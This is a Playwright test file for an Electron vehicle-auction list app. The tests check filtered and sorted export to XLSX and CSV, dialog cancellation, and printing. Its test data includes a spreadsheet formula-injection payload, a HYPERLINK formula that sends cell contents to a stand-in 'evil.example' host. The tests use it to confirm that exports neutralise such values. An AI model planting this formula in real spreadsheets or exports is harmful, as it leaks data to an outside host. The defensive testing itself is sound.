import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Locator } from 'playwright';
import { expect, test } from 'playwright/test';
import readXlsxFile from 'read-excel-file/universal';
import { parseCsv } from '../shared/testing/parse-csv.ts';
import type { Electron } from './fixtures/crashes.ts';
import { RUNTIME } from './fixtures/launch.ts';
import { hasLibreOffice, openInLibreOffice } from './fixtures/libre-office.ts';
import { sharedListApp } from './fixtures/list-app.ts';
import { listRow, listTable, makeListOf, openListIndex } from './fixtures/screens/lists.ts';

const { app, service } = sharedListApp();
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
const NOTE = `"${FORMULA.replaceAll('"', '""')}"`;
const CATALOGUE = `Lot,Reg,Mileage,Reserve,Note
007,KP16AAA,41000,6100,${NOTE}
008,KP16AAB,42000,6200,Two keys
009,KP16AAC,43000,6300,Not =HYPERLINK`;
/** The rows that the filter leaves, in the order of the table. */
const SHOWN = ['KP16 AAC', 'KP16 AAA'];

let folder: string;
test.beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'platedesk-lists-'));
});
test.afterAll(() => rm(folder, { recursive: true, force: true }));

/** Chooses an item of the menu “List”. */
async function choose(name: string): Promise<void> {
  const { page } = app();
  await page.getByRole('button', { name: 'List', exact: true }).click();
  await page.getByRole('menuitem', { name }).click();
}

const messages = (): Locator => app().page.getByRole('status', { name: 'Messages' });

/** The cells as a spreadsheet program reads them, by the name of their column. */
const toRecords = ([head = [], ...rows]: readonly (readonly unknown[])[]) =>
  rows.map((cells) => Object.fromEntries(head.map((name, at) => [String(name), cells[at] ?? ''])));

test('a list whose rows are filtered and sorted is exported as they are shown', async () => {
  const { page } = app();
  await openListIndex(page);
  await makeListOf(page, 'Monday sale', CATALOGUE);
  await page.getByRole('textbox', { name: 'Filter rows' }).fill('HYPERLINK');
  await expect(page.getByText('2 of 3 shown')).toBeVisible();
  const head = listTable(page).getByRole('button', { name: 'Odometer' });
  await head.click();
  await head.click();
  await expect(listTable(page).getByRole('rowheader')).toHaveText(
    SHOWN.map((plate) => new RegExp(plate)),
  );
  await expect(listRow(page, 'KP16 AAB')).toHaveCount(0);
});

test('XLSX has the shown rows, and a note that looks like a formula as text', async () => {
  const file = path.join(folder, 'sale.xlsx');
  await app().setSavePath(file);
  await choose('Export as XLSX…');
  await expect(messages()).toContainText('2 vehicles saved as sale.xlsx');
  const bytes = await readFile(file);
  const [sheet] = await readXlsxFile(new Uint8Array(bytes).buffer, { trim: false });
  const rows = toRecords(sheet?.data ?? []);
  expect(rows.map((row) => row['Plate'])).toEqual(SHOWN);
  expect(rows).toMatchObject([
    { Lot: '009', 'Odometer (miles)': 43_000, 'Reserve (£)': 6_300 },
    { Lot: '007', 'Odometer (miles)': 41_000, 'Reserve (£)': 6_100, Note: FORMULA },
  ]);
  expect(service().calls).toEqual([]);
});

test('LibreOffice opens the workbook without a question, with the note as text', async () => {
  test.skip(
    !process.env['CI'] && !hasLibreOffice(),
    'LibreOffice is not installed (Debian: apt install libreoffice-calc)',
  );
  const rows = toRecords(await openInLibreOffice(path.join(folder, 'sale.xlsx')));
  expect(rows.map((row) => row['Plate'])).toEqual(SHOWN);
  expect(rows).toMatchObject([
    { Lot: '009', 'Odometer (miles)': '43000', 'Reserve (£)': '6300' },
    { Lot: '007', 'Odometer (miles)': '41000', 'Reserve (£)': '6100', Note: FORMULA },
  ]);
});

test('CSV has the shown rows, and escapes a note that looks like a formula', async () => {
  const file = path.join(folder, 'sale.csv');
  await app().setSavePath(file);
  await choose('Export as CSV…');
  await expect(messages()).toContainText('2 vehicles saved as sale.csv');
  const text = await readFile(file, 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const rows = toRecords(parseCsv(text.slice(1)));
  expect(rows.map((row) => row['Plate'])).toEqual(SHOWN);
  expect(rows[1]).toMatchObject({ Lot: '007', 'Reserve (£)': '6100', Note: `'${FORMULA}` });
  expect(service().calls).toEqual([]);
});

/** The dialogs for files are cancelled from now on, although they name a file. */
const cancelDialogs = (named: string) =>
  app().evaluateInMain((electron, filePath) => {
    const cancelled: string[] = [];
    Object.assign(globalThis, { cancelled });
    (electron as Electron).dialog.showSaveDialog = async (...args: readonly unknown[]) => {
      cancelled.push((args.at(-1) as { defaultPath: string }).defaultPath);
      return { canceled: true, filePath };
    };
  }, named);
const readCancelled = () =>
  app().evaluateInMain(
    () => (globalThis as unknown as { cancelled: string[] }).cancelled,
    undefined,
  );

test('a cancelled dialog writes nothing and says nothing', async () => {
  test.skip(RUNTIME !== 'electron', 'the preview host has no dialog');
  const before = await readdir(folder);
  const dismiss = messages().getByRole('button', { name: 'Dismiss' });
  while ((await dismiss.count()) > 0) await dismiss.first().click();
  await cancelDialogs(path.join(folder, 'cancelled'));
  await choose('Export as XLSX…');
  await expect.poll(readCancelled).toEqual([expect.stringMatching(/Monday sale [\d-]+\.xlsx$/)]);
  await choose('Export as CSV…');
  await expect.poll(async () => (await readCancelled()).length).toBe(2);
  await app().setSavePath(path.join(folder, 'last.csv'));
  await choose('Export as CSV…');
  await expect(messages()).toContainText('saved as last.csv');
  await expect(messages()).not.toContainText('cancelled');
  expect((await readdir(folder)).toSorted()).toEqual([...before, 'last.csv'].toSorted());
  expect(service().calls).toEqual([]);
});

type PrintJob = {
  readonly isLandscape: boolean;
  readonly pageSize: unknown;
  readonly html: string;
};

/** Records the document of each print, and answers it in place of the dialog of the system. */
const recordPrinting = (...answers: readonly boolean[]) =>
  app().evaluateInMain((electron, isPrinted) => {
    const { app: electronApp, session } = electron as Electron;
    const printed: PrintJob[] = [];
    Object.assign(globalThis, { printed });
    electronApp.on('web-contents-created', (_event, contents) => {
      const record = async (landscape: boolean, pageSize: unknown) => {
        // The document allows no scripts, so its text cannot be read from the window.
        const document = await session.fromPartition('reports').fetch(contents.getURL());
        printed.push({ isLandscape: landscape, pageSize, html: await document.text() });
        return isPrinted[printed.length - 1] === true;
      };
      contents.print = ({ landscape = false, pageSize } = {}, answer = () => undefined) =>
        void record(landscape, pageSize).then((isDone) =>
          answer(isDone, isDone ? '' : 'Print job canceled'),
        );
    });
  }, answers);
const readPrinted = () =>
  app().evaluateInMain(() => (globalThis as unknown as { printed: PrintJob[] }).printed, undefined);

test('printing opens the dialog on the shown rows, in landscape, and sends nothing', async () => {
  test.skip(RUNTIME !== 'electron', 'the preview host does not print');
  await recordPrinting(false, true);
  // The first dialog is cancelled, the second is not.
  await choose('Print…');
  await expect.poll(async () => (await readPrinted()).length).toBe(1);
  await choose('Print…');
  await expect(messages()).toContainText('2 vehicles sent to the printer');
  const printed = await readPrinted();
  expect(printed).toHaveLength(2);
  for (const { html, ...job } of printed) {
    expect(job).toEqual({ isLandscape: true, pageSize: 'A4' });
    expect(html).toContain('Monday sale');
    for (const plate of SHOWN) expect(html).toContain(plate);
    expect(html).not.toContain('KP16 AAB');
  }
  expect(service().calls).toEqual([]);
});
